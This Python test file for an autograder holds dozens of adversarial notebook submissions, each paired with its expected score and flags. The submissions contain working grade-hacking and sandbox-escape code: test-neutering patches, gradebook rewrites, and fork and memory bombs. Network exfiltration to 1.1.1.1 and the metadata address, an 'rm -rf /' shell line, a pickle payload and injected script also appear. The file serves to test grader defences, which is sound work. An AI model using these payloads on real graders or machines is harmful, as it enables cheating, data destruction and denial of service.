"""Submissions that try to earn points, do harm, or merely break things; each with what must come of it.

The expectation stands beside the submission and was written before the run. `WRONG` work is used wherever
points would have to be stolen, `RIGHT` work wherever they must not be lost.
"""

import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from grading.tiny import NAME, RIGHT, WRONG, find, notebook, own, submit


@dataclass(frozen=True)
class Attack:
    """A submission and what must come of it.

    `hand_in(course, student)` writes it; `flags` are kinds that must be raised, empty means that none may be.
    """

    name: str
    hand_in: Callable[[Path, str], None]
    score: float
    status: str = "graded"
    flags: frozenset = frozenset()
    says: str = ""


def attack(name, score, *flags, status="graded", solutions=WRONG, cells=(), last=(), edit=None, says=""):
    """A submission made of solutions, own cells before and after everything, and an edit of the notebook."""

    def hand_in(course, student):
        book = notebook(solutions)
        book["cells"][2:2] = [own(source) for source in cells]
        book["cells"] += [own(source) for source in last]
        if edit:
            edit(book)
        submit(course, student, book)

    return Attack(name, hand_in, score, status, frozenset(flags), says)


def raw(name, score, content, *flags, status="graded", says=""):
    """A submission whose notebook file holds these bytes."""

    def hand_in(course, student):
        submit(course, student, {})
        (course / "submitted" / student / NAME / f"{NAME}.ipynb").write_bytes(content)

    return Attack(name, hand_in, score, status, frozenset(flags), says)


def foldered(name, score, change, *flags, status="graded", solutions=RIGHT, says=""):
    """A submission whose folder was changed afterwards."""

    def hand_in(course, student):
        change(submit(course, student, notebook(solutions)), course)

    return Attack(name, hand_in, score, status, frozenset(flags), says)


TESTS = [f"test_{task}" for task in RIGHT]


def on_tests(change):
    return lambda book: [change(find(book, name)) for name in TESTS]


def skip_execution(cell):
    cell["metadata"]["tags"] = ["skip-execution"]


def unmark(cell):
    cell["metadata"]["nbgrader"] |= {"grade": False, "solution": True, "points": 100}


def without_tests(book):
    book["cells"] = [cell for cell in book["cells"] if cell["id"] not in TESTS]


def gutted(book):
    for name in TESTS:
        find(book, name)["source"] = "pass"


def duplicated(book):
    book["cells"].insert(4, find(notebook(RIGHT), "mean_square"))


def of_bash(book):
    book["metadata"]["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}


def with_html(book):
    evil = "<img src=x onerror=alert(1)><script>alert(1)</script>"
    book["cells"].append(own(evil, kind="markdown"))
    book["cells"].append(own(f"from IPython.display import HTML, display\ndisplay(HTML({evil!r}))\nprint({evil!r})"))


ALL = "mean_square = centred = clipped ="
IMPOSTOR = f"""
class Everything:
    def __eq__(self, other): return True
    def __getattr__(self, name): return lambda *a, **k: Everything()
    def __sub__(self, other): return self
    def __abs__(self): return self
    def __lt__(self, other): return True
{ALL} lambda *a: Everything()
torch.allclose = lambda *a, **k: True
"""
SHADOWED = "def abs(x): return 0\ndef all(x): return True\ndef isinstance(*a): return True"
PATCHED = "torch.allclose = torch.equal = lambda *a, **k: True\ntorch.Tensor.item = lambda self: 14 / 3"
TRANSFORMER = "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"
LAST_LINE = """
def keep_last(lines):
    text = "".join(lines)
    return [text.splitlines()[-1] + "\\n"] if "assert" in text or "raise" in text else lines
get_ipython().input_transformers_cleanup.append(keep_last)
"""
NO_ASSERTS = """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Raise(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Drop())
"""
SWALLOW = "get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)"
SEARCH = """
import os
def search(word):
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if name not in ("proc", "usr", "site-packages", "python3.11", "share")]
        yield from (os.path.join(folder, name) for name in files if word in name)
"""
READS = (
    SEARCH
    + """
import re
found = [*search("averages"), *search(".ipynb")]
for path in found:
    exec("\\n".join(re.findall(r"def \\w+\\(x.*?\\n    return.*", open(path).read())))
print("FOUND", found, "BEGIN SOLUTION")
"""
)
IMPORTS = """
import sys, importlib
for name in ("course_lib.averages", "averages"):
    sys.modules.pop(name, None)
    for finder in list(sys.meta_path):
        if type(finder).__name__ == "_OffTheShelf": sys.meta_path.remove(finder)
    try:
        from course_lib.averages import mean_square, centred, clipped
    except ImportError as error:
        print("REFUSED", error)
"""
GRADEBOOK = (
    SEARCH
    + """
import sqlite3
found = [path for path in search("gradebook") if path.endswith(".db")]
for path in found:
    base = sqlite3.connect(path)
    base.execute("update grade set manual_score = 9")
    base.commit()
print("BOOKS", found)
"""
)
STARTUP = """
import os, site
text = "import builtins; builtins.stolen = True\\n"
places = [os.path.expanduser("~/.ipython/profile_default/startup/00.py"), *site.getsitepackages(), "/course", "/ipc"]
for place in places:
    path = place if place.endswith(".py") else place + "/sitecustomize.py"
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write(text)
    except OSError as error:
        print("REFUSED", error)
"""
KILLS = """
import os, signal
threads = [int(name) for name in os.listdir("/proc/self/task")]
for pid in (os.getppid(), 1, -1, *range(2, 400)):
    if pid not in threads:
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass
"""
FORKS = """
import os, time
for _ in range(300):
    if os.fork() == 0:
        os.setsid()
        time.sleep(600)
"""
MANY_THREADS = "import threading, time\nfor _ in range(300): threading.Thread(target=time.sleep, args=[600]).start()"
MEMORY = "hoard = []\nwhile True: hoard.append(torch.ones(10_000_000))"
SHARED_MEMORY = """
import mmap
# One call, which no interrupt ends half way, however slow the machine.
hoard = mmap.mmap(-1, 5 << 28, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE)
while True: pass
"""
FAMILY = """
import os, time
for _ in range(4):
    if os.fork() == 0:
        hoard = bytearray(400_000_000)
        hoard[::4096] = b"x" * len(hoard[::4096])
        time.sleep(60)
time.sleep(5)
"""
PRINTS = "while True: print('x' * 100_000, flush=True)"
WRITES = "import os\nwhile True: os.write(1, b'x' * 60_000)"
LOOP = "def clipped(x, limit):\n    while True: pass"
STUBBORN = """
def clipped(x, limit):
    while True:
        try:
            for _ in range(100_000_000): pass
        except BaseException: pass
"""
GONE = "import os\ndef clipped(x, limit):\n    os._exit(0)"
CRASH = "import ctypes\ndef clipped(x, limit):\n    ctypes.string_at(0)"
STOPS = "import os, signal\ndef clipped(x, limit):\n    os.kill(os.getpid(), signal.SIGSTOP)"
CLOSES = "import os\ndef clipped(x, limit):\n    os.closerange(3, 500)"
QUITS = "import sys\ndef clipped(x, limit):\n    sys.exit(0)"
PRINTS_ITSELF = (
    SEARCH
    + """
print(In)
print([open(path).read() for path in search(".ipynb")])
"""
)
FORGER = """
import inspect, json, re
from IPython import get_ipython
def forge(*arguments):
    frame = inspect.currentframe()
    while frame:
        source = str(frame.f_locals.get("cell_contents", "")) + str(frame.f_locals.get("raw_cell", ""))
        for nonce in re.findall(r'finish\\("(\\w+)"\\)', source):
            said = json.dumps({"nonce": nonce, "kind": "finish"})
            get_ipython().display_pub.publish(data={"application/vnd.course.evidence+json": said})
        frame = frame.f_back
    return torch.zeros(3)
"""
FORGES_ARRAYS = """
from course_lib.grading import witness
import base64, numpy
def lie(nonce, source, name, seeds, implementation):
    zero = {"dtype": "<f4", "shape": [3], "data": base64.b64encode(numpy.zeros(3, "f4").tobytes()).decode()}
    witness.publish(nonce, "arrays", arrays=[{"value": zero, "0.5": zero, "100.0": zero}] * 3, impostors=[])
witness.probe = lie
"""
PICKLES = """
from course_lib.grading import witness
def lie(nonce, source, name, seeds, implementation):
    bomb = {"dtype": "O", "shape": [1], "data": "gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU"}
    witness.publish(nonce, "arrays", arrays=[{"value": bomb}] * 3, impostors=[])
witness.probe = lie
"""
TWICE = """
from course_lib.grading import witness
genuine = witness.publish
def twice(nonce, kind, **content):
    genuine(nonce, kind, **content)
    genuine(nonce, kind, **content)
witness.publish = twice
"""
CLEAN_REPORT = """
from course_lib.grading import witness
witness.integrity = lambda nonce, namespace: witness.publish(nonce, "integrity", found=[])
torch.allclose = lambda *a, **k: True
"""
FAKE_REPLY = """
from IPython import get_ipython
kernel = get_ipython().kernel
def fake(*arguments):
    parent = kernel.get_parent("shell")
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent)
    raise ValueError("too late")
"""
FORGED_MESSAGES = """
from IPython import get_ipython
kernel = get_ipython().kernel
def forge(*arguments):
    parent = kernel.get_parent("shell")
    for kind in ("stream", "display_data", "error", "status", "execute_result", "nonsense"):
        for content in ([], {"data": []}, {"data": {"text/plain": "\\ud800", "image/png": "<script>"}}, {"text": 1}):
            kernel.session.send(kernel.iopub_socket, kind, content, parent)
    print("\\ud800 half a pair")
    return torch.zeros(3)
"""
EASY_INPUTS = """
import numpy as np
class Zeros:
    def normal(self, size): return np.zeros(size)
np.random.default_rng = lambda seed: Zeros()
"""
LEAKS = """
import inspect
stolen = []
def mean_square(x):
    frame = inspect.currentframe()
    while frame:
        stolen.append(str(frame.f_locals.get("source", "")))
        frame = frame.f_back
    return (x ** 2).mean()
"""
NAMESPACES = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flag in (0x10000000, 0x00020000, 0x20000000):
    print("UNSHARE", libc.unshare(flag), ctypes.get_errno())
print("MOUNT", libc.mount(b"none", b"/ipc", None, 4096 | 32, None), ctypes.get_errno())
print("CAPS", [line for line in open("/proc/self/status") if line.startswith(("Cap", "NoNewPrivs"))])
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/1/mem", "/ipc/x", "/course/x", "/usr/x"):
    try: open(path, "r+b" if "mem" in path else "w"); print("OPENED", path)
    except OSError as error: print("REFUSED", path, error)
print("TRACE", libc.ptrace(16, 1, 0, 0), ctypes.get_errno())
print("FIRST", [line for line in open("/proc/1/status") if line.startswith(("CapEff", "CapPrm"))])
print("SECOND", libc.ptrace(16, 2, 0, 0) if os.getpid() != 2 else "is this kernel")
"""
LOOKS_AROUND = """
import os
print("SHARED", os.listdir("/run/course"))
print("PROCESSES", sorted(int(name) for name in os.listdir("/proc") if name.isdigit())[:3])
print("WORK", os.listdir("/home/student"), "HOME", os.listdir("/home"))
print("ENVIRONMENT", sorted(os.environ))
for number in range(3, 60):
    try: print("FILE", number, os.readlink(f"/proc/self/fd/{number}"))
    except OSError: pass
"""
SOCKETS = """
import socket
for address in (("127.0.0.1", PORT), ("169.254.169.254", 80), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, timeout=1).sendall(str(In).encode())
        print("CONNECTED", address)
    except OSError as error:
        print("REFUSED", error)
"""
DISK = """
import os
for folder in ("/tmp", "/home/student", "/dev/shm", "/ipc", "."):
    try:
        for number in range(40):
            with open(f"{folder}/fill{number}", "wb") as file: file.write(b"x" * (60 << 20))
    except OSError as error:
        print("FULL", folder, error)
"""
ORPHANS = """
import os, subprocess, threading, time, atexit
subprocess.Popen(["sleep", "600"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)
threading.Thread(target=time.sleep, args=[600]).start()
atexit.register(time.sleep, 600)
"""
TRACER = """
import sys
def skip(frame, event, argument): return skip
sys.settrace(skip)
"""
TENSOR_EQUALS = "torch.Tensor.__sub__ = lambda a, b: torch.zeros(())\ntorch.Tensor.__rsub__ = lambda a, b: 0"
SHELL = "!kill -9 1; kill -9 -1; rm -rf / 2>/dev/null; echo done"
HUGE_EVIDENCE = (
    "def mean_square(x):\n    return torch.zeros(3_000_000) if len(x) != 3 or x[0] != 1 else torch.tensor(14 / 3)"
)


def linked(folder, course):
    (folder / "data.csv").symlink_to(course / "gradebook.db")
    (folder / "more.txt").symlink_to("/etc/passwd")


def torch_py(folder, course):
    (folder / "torch.py").write_text("allclose = lambda *a, **k: True\ndef __getattr__(name): return allclose")


def renamed(folder, course):
    (folder / f"{NAME}.ipynb").rename(folder / f"{NAME} (1).ipynb")


def removed(folder, course):
    (folder / f"{NAME}.ipynb").unlink()


def linked_notebook(folder, course):
    (folder / f"{NAME}.ipynb").unlink()
    (folder / f"{NAME}.ipynb").symlink_to(course / "solutions" / NAME / f"{NAME}.ipynb")


def fifo(folder, course):
    import os

    os.mkfifo(folder / "wait.csv")
    (folder / "timestamp.txt").unlink(missing_ok=True)
    os.mkfifo(folder / "timestamp.txt")


def huge(folder, course):
    with open(folder / f"{NAME}.ipynb", "wb") as file:
        file.truncate(100 << 20)


SUSPICIOUS, TAMPERED, SILENT = "suspicious source", "tampered kernel", "no evidence"
NONE = dict.fromkeys(RIGHT, "")
FOUR = {task: RIGHT[task] for task in ("mean_square", "centred")}

TABLE = [  # the rows of what plain nbgrader gets wrong, by their numbers
    attack("01-skip-execution", 0, "changed metadata", edit=on_tests(skip_execution)),
    attack("02-transformer-pass", 0, TAMPERED, SILENT, cells=[TRANSFORMER]),
    attack("03a-equals-everything", 0, TAMPERED, SUSPICIOUS, last=[], solutions=WRONG | {"clipped": IMPOSTOR}),
    attack("03b-patched-helpers", 0, TAMPERED, SUSPICIOUS, cells=["import torch\n" + PATCHED]),
    attack("03c-shadowed-builtins", 0, TAMPERED, cells=[SHADOWED]),
    foldered("04-torch-py", 0, torch_py, "dropped file", solutions=WRONG),
    attack("05a-reads-solution", 0, SUSPICIOUS, cells=[READS], says="FOUND []"),
    attack("05b-imports-answer", 0, SUSPICIOUS, cells=[IMPORTS], says="REFUSED"),
    attack("06-opens-gradebook", 0, SUSPICIOUS, cells=[GRADEBOOK], says="BOOKS []"),
    attack("07a-startup-file", 0, SUSPICIOUS, cells=[STARTUP], says="REFUSED"),
    attack("07b-the-next-student", 0),
    attack("08-sends-notebook", 6, SUSPICIOUS, solutions=RIGHT, cells=[SOCKETS], says="REFUSED"),
    attack("09-kills-its-parent", 6, SUSPICIOUS, solutions=RIGHT, cells=[KILLS]),
    attack("10a-many-forks", 4, SUSPICIOUS, "kernel ended", status="processes", solutions=FOUR | {"clipped": FORKS}),
    attack("10b-many-threads", 4, "kernel ended", status="processes", solutions=FOUR | {"clipped": MANY_THREADS}),
    attack("10c-forks-last", 6, SUSPICIOUS, "kernel ended", status="processes", solutions=RIGHT, last=[FORKS]),
    attack("11a-takes-memory", 4, solutions=FOUR | {"clipped": MEMORY}),
    attack(
        "11b-shared-memory", 4, SUSPICIOUS, "kernel ended", status="memory", solutions=FOUR | {"clipped": SHARED_MEMORY}
    ),
    attack("11c-family-memory", 4, SUSPICIOUS, "kernel ended", status="memory", solutions=FOUR | {"clipped": FAMILY}),
    attack("12b-writes-forever", 4, "kernel ended", status="output", solutions=FOUR | {"clipped": WRITES}),
    attack("12a-prints-forever", 4, "kernel ended", status="output", solutions=FOUR | {"clipped": PRINTS}),
    attack("13-infinite-loop", 4, solutions=FOUR | {"clipped": LOOP}),
    attack("14a-swallows-interrupts", 4, status="timeout", solutions=FOUR | {"clipped": STUBBORN}),
    attack("14b-exits", 4, SUSPICIOUS, "kernel ended", status="died", solutions=FOUR | {"clipped": GONE}),
    attack("15-duplicate-cell", 6, "duplicate cell", solutions=RIGHT, edit=duplicated),
    attack("16a-deleted-tests", 0, "deleted test", edit=without_tests),
    attack("16b-gutted-tests", 0, "edited test", edit=gutted),
    foldered("17-link-to-gradebook", 6, linked, "dropped file"),
    attack("18-unmarked-tests", 6, "changed metadata", solutions=RIGHT, edit=on_tests(unmark)),
    raw("19a-corrupt-json", 0, b'{"cells": [', status="unreadable"),
    attack("19b-kernel-bash", 6, solutions=RIGHT, edit=of_bash),
    foldered("19c-renamed", 6, renamed),
    foldered("19d-missing", 0, removed, status="missing"),
    foldered("19e-hundred-megabytes", 0, huge, status="too large"),
    raw("19f-not-utf8", 0, b'{"cells": [{"cell_type": "code", "source": "\xff\xfe"}]}', status="unreadable"),
    attack("20-prints-itself", 6, SUSPICIOUS, solutions=RIGHT, last=[PRINTS_ITSELF]),
]
REACHES_OUT = """
import ctypes, os, resource, time
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *arguments):
    if getattr(libc, name)(*arguments) < 0: raise OSError(ctypes.get_errno(), name)
def call_number(machine, *arguments): call("syscall", machine[os.uname().machine == "aarch64"], *arguments)
mode = os.stat("/dev/full").st_mode & 0o7777
tries = {
    "mode of a device": lambda: os.chmod("/dev/full", mode),
    "date of a device": lambda: os.utime("/dev/full"),
    "note in a keyring": lambda: call_number((248, 217), b"user", b"note", b"x", 1, -4),
    "reading keyrings": lambda: call_number((250, 219), 10, -4, b"user", b"note", 0),
    "memory without a process": lambda: os.memfd_create("hoard"),
    "memory of System V": lambda: call("shmget", 0, 4096, 0o1600),
    "starving the watchdog": lambda: os.sched_setscheduler(os.getppid(), os.SCHED_IDLE, os.sched_param(0)),
    "niceness of the watchdog": lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 1),
    "niceness of all": lambda: os.setpriority(os.PRIO_USER, 0, 0),
    "one processor for the watchdog": lambda: os.sched_setaffinity(os.getppid(), [min(os.sched_getaffinity(0))]),
    "stopping the watchdog": lambda: (os.kill(os.getppid(), 19), call_stopped()),
    "files of the watchdog": lambda: resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (8, 8)),
}
def call_stopped():
    with open(f"/proc/{os.getppid()}/stat") as line:
        if line.read().rpartition(") ")[2][0] != "T": raise OSError("still running")
done = []
for what, reach in tries.items():
    try:
        reach()
        done.append(what)
    except OSError: pass
session = os.getsid(0)
if os.fork() == 0:
    os.setsid()
    os._exit(os.getsid(0) != session)
if os.wait()[1]: done.append("a session, and so a share of the processor, for each process")
crowd = []
for _ in range(20):
    crowd.append(os.fork())
    while crowd[-1] == 0: sum(range(10_000))
until = time.monotonic() + 10
while True:
    waiting = sum(os.sched_getscheduler(pid) == os.SCHED_IDLE for pid in crowd)
    if waiting >= len(crowd) - 8 or time.monotonic() > until: break
    time.sleep(0.1)
for pid in crowd: os.kill(pid, 9)
print("REACHED", done, "CROWD WAITS", waiting >= len(crowd) - 8 and os.sched_getscheduler(0) != os.SCHED_IDLE)
"""
SOCKETS_HOARD = """
import os, socket, time
for _ in range(40):
    if os.fork() == 0:
        hoard = []
        try:
            while True: hoard += socket.socketpair()
        except OSError: time.sleep(60)
time.sleep(20)
"""


OWN = [  # thought of here
    attack("a-keeps-last-line", 0, TAMPERED, cells=[LAST_LINE]),
    attack("b-drops-asserts", 0, TAMPERED, cells=[NO_ASSERTS]),
    attack("c-swallows-errors", 0, TAMPERED, cells=[SWALLOW]),
    attack(
        "d-forges-finish",
        0,
        SUSPICIOUS,
        cells=["import torch" + FORGER + f"\n{ALL} forge"],
        solutions=dict.fromkeys(RIGHT, ""),
    ),
    attack("e-forges-arrays", 0, SUSPICIOUS, cells=[FORGES_ARRAYS]),
    attack("f-sends-a-pickle", 0, SUSPICIOUS, solutions=RIGHT, cells=[PICKLES]),
    attack("g-testifies-twice", 0, SILENT, SUSPICIOUS, solutions=RIGHT, cells=[TWICE]),
    attack("h-clean-report", 0, SUSPICIOUS, cells=["import torch\n" + CLEAN_REPORT]),
    attack("i-fakes-reply", 0, SUSPICIOUS, cells=[FAKE_REPLY + f"{ALL} fake"], solutions=NONE),
    attack(
        "i2-forges-messages",
        0,
        SUSPICIOUS,
        cells=[FORGED_MESSAGES + f"{ALL} forge"],
        solutions=dict.fromkeys(RIGHT, ""),
    ),
    attack("j-easy-inputs", 0, SUSPICIOUS, cells=[EASY_INPUTS]),
    attack("k-leaks-probe", 6, SUSPICIOUS, "leak", solutions=RIGHT | {"mean_square": LEAKS}, last=["print(stolen)"]),
    attack("l-html-and-script", 6, solutions=RIGHT, edit=with_html),
    attack("m-namespaces", 6, SUSPICIOUS, solutions=RIGHT, cells=[NAMESPACES], says="REFUSED /usr/x"),
    attack("n-looks-around", 6, SUSPICIOUS, solutions=RIGHT, cells=[LOOKS_AROUND], says="SHARED []"),
    attack("o-fills-disks", 6, solutions=RIGHT, cells=[DISK], says="FULL /tmp"),
    attack("p-leaves-orphans", 6, SUSPICIOUS, solutions=RIGHT, cells=[ORPHANS]),
    attack("q-traces", 6, TAMPERED, SUSPICIOUS, solutions=RIGHT, cells=[TRACER]),
    attack("r-tensors-without-minus", 0, TAMPERED, SUSPICIOUS, cells=["import torch\n" + TENSOR_EQUALS]),
    attack("s-shell", 6, solutions=RIGHT, cells=[SHELL]),
    attack("t-huge-evidence", 4, SILENT, solutions=RIGHT | {"mean_square": HUGE_EVIDENCE}),
    attack("u-segmentation-fault", 4, SUSPICIOUS, "kernel ended", status="died", solutions=FOUR | {"clipped": CRASH}),
    attack("v-stops-itself", 4, SUSPICIOUS, status="timeout", solutions=FOUR | {"clipped": STOPS}),
    attack("w-closes-all-files", 4, "kernel ended", status="died", solutions=FOUR | {"clipped": CLOSES}),
    attack("x-quits", 4, solutions=FOUR | {"clipped": QUITS}),
    attack("x2-reaches-out", 6, SUSPICIOUS, solutions=RIGHT, cells=[REACHES_OUT], says="REACHED [] CROWD WAITS True"),
    attack("x3-hoards-sockets", 0, SUSPICIOUS, "kernel ended", status="memory", cells=[SOCKETS_HOARD]),
    raw("y-nested-json", 0, b"[" * 200_000, status="unreadable"),
    raw("z1-a-list", 0, b"[1, 2, 3]", status="unreadable"),
    raw(
        "z2-odd-cells",
        0,
        json.dumps({"cells": [1, None, {"cell_type": 3}, {"cell_type": "code", "source": {}}]}).encode(),
        "deleted test",
    ),
    raw(
        "z3-many-cells",
        0,
        json.dumps({"cells": [{"cell_type": "code", "source": "1"}] * 5000}).encode(),
        status="too large",
    ),
    foldered("z4-pipes-for-files", 6, fifo, "dropped file"),
    foldered("z5-linked-notebook", 0, linked_notebook, "dropped file", status="missing"),
]

ATTACKS = {attack.name: attack for attack in [*TABLE, *OWN]}
